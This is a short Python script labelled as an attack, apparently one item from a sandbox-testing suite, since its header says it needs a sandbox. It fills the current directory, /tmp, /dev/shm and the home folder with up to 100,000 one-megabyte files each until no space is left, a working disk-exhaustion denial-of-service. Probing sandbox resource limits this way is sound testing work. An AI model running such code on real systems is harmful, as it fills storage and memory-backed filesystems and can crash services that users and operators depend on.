# title: files until there is no room left, in each folder that can be written to
# place: first
# needs: sandbox

# %% [attack]
import os

for folder in (".", "/tmp", "/dev/shm", os.path.expanduser("~")):
    try:
        for number in range(100_000):
            with open(f"{folder}/{number}", "wb") as file:
                file.write(b"x" * 10**6)
    except OSError as error:
        print(error)
